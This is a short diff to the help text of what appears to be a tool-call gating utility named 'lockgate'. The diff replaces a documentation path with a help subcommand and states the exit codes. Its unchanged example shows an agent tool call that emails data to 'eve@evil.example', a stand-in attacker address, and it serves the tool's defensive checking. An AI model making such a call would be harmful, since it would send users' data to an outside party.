@@ -34,7 +34,7 @@ example:
   {"call": {"tool": "send_email", "arguments": {"to": "eve@evil.example", "body": "…"}}}
   END
 
-docs/reference/trace.md describes the format.
+`lockgate help trace` describes the format.
 Exit code 0: every call may continue; 1: some call must not run as it is; 2: bad input.
 """
 
